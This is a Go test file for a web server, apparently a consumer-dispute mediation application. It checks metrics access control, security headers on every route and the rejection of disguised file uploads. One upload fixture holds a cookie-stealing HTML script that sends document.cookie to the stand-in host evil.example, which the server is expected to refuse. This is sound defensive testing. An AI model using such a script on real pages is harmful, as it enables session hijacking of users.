package server_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/tiaojie/tiaojie/internal/server"
	"github.com/tiaojie/tiaojie/internal/store/storetest"
)

// scrape reads the metrics as the separate metrics listener serves them.
func (e *env) scrape() resp {
	rec := httptest.NewRecorder()
	e.srv.MetricsHandler().ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	return resp{rec.Result(), rec.Body.String()}
}

// TestMetricsOffMainPort: on the application's address /metrics does not
// exist without a metrics token; with one it needs that bearer token; the
// separate metrics handler serves them.
func TestMetricsOffMainPort(t *testing.T) {
	eng := storetest.Engines(t)[0]
	plain := newEnv(t, eng)
	if r := plain.anon().get("/metrics"); r.StatusCode != http.StatusNotFound || strings.Contains(r.body, "tiaojie_cases") {
		t.Fatalf("public /metrics without a token configured: %d", r.StatusCode)
	}
	// A signed-in administrator does not read them there either.
	if r := plain.login("admin").get("/metrics"); r.StatusCode != http.StatusNotFound {
		t.Fatalf("admin reads /metrics on the main port: %d", r.StatusCode)
	}
	if m := plain.scrape(); m.StatusCode != 200 || !strings.Contains(m.body, "tiaojie_cases{status=") || !strings.Contains(m.body, "go_sql_open_connections") || !strings.Contains(m.body, "tiaojie_reads_waiting 0") {
		t.Fatalf("metrics handler: %d", m.StatusCode)
	}

	const token = "metrics-token-0123456789"
	e := startEnv(t, eng.FromTemplate(t, "demo", buildDemo), nil, nil, func(o *server.Options) { o.MetricsToken = token })
	for _, bad := range []string{"", "Bearer wrong-token-0123456789", "Basic " + token} {
		req, _ := http.NewRequest("GET", e.ts.URL+"/metrics", nil)
		if bad != "" {
			req.Header.Set("Authorization", bad)
		}
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != http.StatusUnauthorized {
			t.Fatalf("/metrics with %q: %d", bad, res.StatusCode)
		}
	}
	req, _ := http.NewRequest("GET", e.ts.URL+"/metrics", nil)
	req.Header.Set("Authorization", "Bearer "+token)
	res, err := http.DefaultClient.Do(req)
	if err != nil || res.StatusCode != 200 {
		t.Fatalf("/metrics with the token: %v %v", err, res)
	}
	res.Body.Close()
}

// TestSecurityHeadersOnEveryRoute: every route of the table, asked
// anonymously (whatever it answers: a page, JSON, a redirect, a refusal,
// a 404), and a path no route has, carry the security headers; party
// pages send no Referer; HSTS comes with secure cookies.
func TestSecurityHeadersOnEveryRoute(t *testing.T) {
	eng := storetest.Engines(t)[0]
	e := startEnv(t, eng.FromTemplate(t, "demo", buildDemo), nil, nil, func(o *server.Options) { o.SecureCookies = true })
	param := regexp.MustCompile(`\{[^}]+\}`)
	type probe struct{ method, path string }
	probes := []probe{{"GET", "/no-such-page"}, {"GET", "/api/v1/no-such"}, {"POST", "/cases/1/notes"}}
	for _, rt := range e.srv.Routes() {
		p := strings.ReplaceAll(param.ReplaceAllString(rt.Path, "1"), "{$}", "")
		if strings.HasSuffix(p, "/") && p != "/" {
			p += "app.css"
		}
		probes = append(probes, probe{rt.Method, p})
	}
	statuses := map[int]int{}
	for _, pr := range probes {
		req, _ := http.NewRequest(pr.method, e.ts.URL+pr.path, nil)
		if pr.path == "/cases/1/notes" {
			req.Header.Set("Origin", "https://evil.example") // a refused cross-origin POST
			req.Header.Set("Sec-Fetch-Site", "cross-site")
		}
		res, err := (&http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		statuses[res.StatusCode]++
		if res.StatusCode == 500 {
			t.Logf("500: %s %s", pr.method, pr.path)
		}
		h := res.Header
		csp := h.Get("Content-Security-Policy")
		if !strings.Contains(csp, "frame-ancestors 'none'") && !strings.Contains(csp, "sandbox") {
			t.Errorf("%s %s (%d): CSP %q", pr.method, pr.path, res.StatusCode, csp)
		}
		want := "same-origin"
		if regexp.MustCompile(`^/(p|sign|rate|consent)/`).MatchString(pr.path) {
			want = "no-referrer"
		}
		for k, v := range map[string]string{"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY", "Referrer-Policy": want,
			"Strict-Transport-Security": "max-age=31536000; includeSubDomains"} {
			if h.Get(k) != v {
				t.Errorf("%s %s (%d): %s = %q, want %q", pr.method, pr.path, res.StatusCode, k, h.Get(k), v)
			}
		}
		if pp := h.Get("Permissions-Policy"); !strings.Contains(pp, "camera=()") || !strings.Contains(pp, "microphone=()") || !strings.Contains(pp, "geolocation=()") {
			t.Errorf("%s %s: Permissions-Policy %q", pr.method, pr.path, pp)
		}
	}
	if len(probes) < 100 || statuses[200] == 0 || statuses[303] == 0 || statuses[404] == 0 || statuses[401] == 0 {
		t.Fatalf("%d probes did not cover the kinds of answer: %v", len(probes), statuses)
	}
	// Without secure cookies (plain HTTP) there is no HSTS.
	plain := newEnv(t, eng)
	if r := plain.anon().get("/login"); r.Header.Get("Strict-Transport-Security") != "" {
		t.Fatal("HSTS over plain HTTP")
	}
}

// TestUploadDisguisedFiles: every kind of upload is judged by its content,
// not its name or the browser's type: an HTML page or a program renamed
// .jpg/.png/.pdf/.xlsx/.csv is refused with a Chinese 4xx and nothing is
// kept; an oversize file is refused too.
func TestUploadDisguisedFiles(t *testing.T) {
	forEachEngine(t, func(t *testing.T, e *env) {
		html := []byte("<!DOCTYPE html><html><script>document.location='https://evil.example/?'+document.cookie</script></html>")
		exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 200)...)
		refused := func(what string, r resp, codes ...int) {
			t.Helper()
			if !slices.Contains(codes, r.StatusCode) || !regexp.MustCompile(`\p{Han}`).MatchString(r.body) {
				t.Errorf("%s: %d (want one of %v with a Chinese message) %.200s", what, r.StatusCode, codes, r.body)
			}
		}
		// 12315 import: content, not extension, decides; no batch is stored.
		reg := e.login("regulator01")
		batches := countOf(t, e, `SELECT COUNT(*) FROM import_batches`)
		refused("HTML as .xlsx", upload(t, reg, "12315导出.xlsx", html), 415, 422)
		refused("program as .csv", upload(t, reg, "12315导出.csv", exe), 415, 422)
		if n := countOf(t, e, `SELECT COUNT(*) FROM import_batches`); n != batches {
			t.Errorf("a disguised import was stored (%d batches, was %d)", n, batches)
		}
		// Agreement verification takes PDFs only.
		refused("HTML as .pdf to /verify", uploadFile(e.anon(), "/verify", "file", "协议书.pdf", html, nil), 415)
		// The committee's seal: a PNG.
		refused("HTML as the seal .png", uploadFile(e.login("committee01"), "/seal", "seal", "印章.png", html, nil), 400, 422)
		// A party's evidence.
		_, id, links := onlineCase(t, e)
		files := countOf(t, e, `SELECT COUNT(*) FROM case_evidence WHERE case_id = `+itoa(id))
		refused("HTML as .jpg evidence", uploadFileJSON(e.anon(), links["consumer"]+"/evidence", "发票.jpg", html, map[string]string{"channel": "consumer"}), 415, 422)
		big := append([]byte("\xff\xd8\xff\xe0"), make([]byte, 11<<20)...)
		refused("oversize evidence", uploadFileJSON(e.anon(), links["consumer"]+"/evidence", "大图.jpg", big, map[string]string{"channel": "consumer"}), 413, 422)
		if n := countOf(t, e, `SELECT COUNT(*) FROM case_evidence WHERE case_id = `+itoa(id)); n != files {
			t.Errorf("a refused upload was kept as evidence")
		}
	})
}

func countOf(t *testing.T, e *env, q string) int {
	t.Helper()
	var n int
	if err := e.db.Writer().QueryRowContext(context.Background(), q).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}
